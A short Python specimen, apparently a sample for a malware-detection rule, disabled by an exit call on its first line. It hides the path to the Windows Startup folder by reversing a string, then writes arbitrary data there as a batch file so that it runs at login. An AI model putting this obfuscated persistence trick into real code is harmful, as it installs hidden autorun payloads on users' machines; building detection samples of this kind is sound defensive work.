raise SystemExit("specimen: not to be run")
import base64
import os

def begin(data):
    where = os.getenv("APPDATA") + "tab.a\\putratS\\smargorP\\uneM tratS\\swodniW\\tfosorciM\\"[::-1]
    with open(where, "wb") as f:  # match: startup-folder
        f.write(data)
